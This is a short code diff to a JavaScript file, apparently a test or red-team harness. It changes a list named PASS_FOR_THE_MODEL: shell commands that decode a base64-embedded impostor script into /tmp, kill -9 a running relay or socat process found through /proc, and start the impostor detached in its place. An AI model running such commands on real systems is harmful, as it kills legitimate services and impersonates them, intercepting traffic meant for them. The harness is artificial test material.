@@ -23,8 +23,8 @@ listen();
 `;
 const PASS_FOR_THE_MODEL = [
   `echo ${Buffer.from(IMPOSTOR).toString('base64')} | base64 -d >/tmp/impostor.cjs`,
-  'for process in /proc/[0-9]*; do tr "\\0" " " <$process/cmdline | grep -q "[r]elay.mjs" && kill -9 ${process#/proc/}; done',
-  'setsid /run/jail/node /tmp/impostor.cjs </dev/null >/tmp/said 2>&1 &',
+  'for process in /proc/[0-9]*; do tr "\\0" " " <$process/cmdline | grep -q "[s]ocat" && kill -9 ${process#/proc/}; done',
+  'setsid node /tmp/impostor.cjs </dev/null >/tmp/said 2>&1 &',
   'until curl -s --noproxy "*" http://127.0.0.1:39100/; do sleep 0.1; done',
 ].join('\n');
 
